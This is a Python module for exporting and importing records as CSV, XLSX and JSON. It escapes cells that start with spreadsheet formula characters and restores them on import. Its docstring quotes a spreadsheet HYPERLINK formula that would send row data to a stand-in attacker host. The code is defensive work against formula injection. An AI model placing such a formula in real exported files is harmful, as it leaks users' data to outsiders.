"""The file formats records travel in: what the lists export and the import reads.

A spreadsheet runs a cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return as a formula, so a title such as ``=HYPERLINK("https://evil.example/?"&A2)`` would
send the row's neighbours away when the file is opened. In CSV and XLSX such a cell is
written with a leading apostrophe, as OWASP advises (spreadsheets show it as text), and
the import takes the apostrophe off again, so a round trip gives back exactly what was
stored. JSON is not opened by spreadsheets and travels as it is.
"""

from __future__ import annotations

FORMULA_START = frozenset("=+-@\t\r")
TEXT_MARK = "'"


def neutralise(value):
    """A spreadsheet cell's value that no spreadsheet reads as a formula.

    A value that already begins with the apostrophe before a formula character (or
    another apostrophe) gets one more, so that ``restore`` gives it back unchanged.
    """
    if isinstance(value, str) and value and (value[0] in FORMULA_START or restore(value) != value):
        return TEXT_MARK + value
    return value


def restore(value: str) -> str:
    """The value ``neutralise`` was given."""
    if len(value) > 1 and value[0] == TEXT_MARK and (value[1] in FORMULA_START or value[1] == TEXT_MARK):
        return value[1:]
    return value
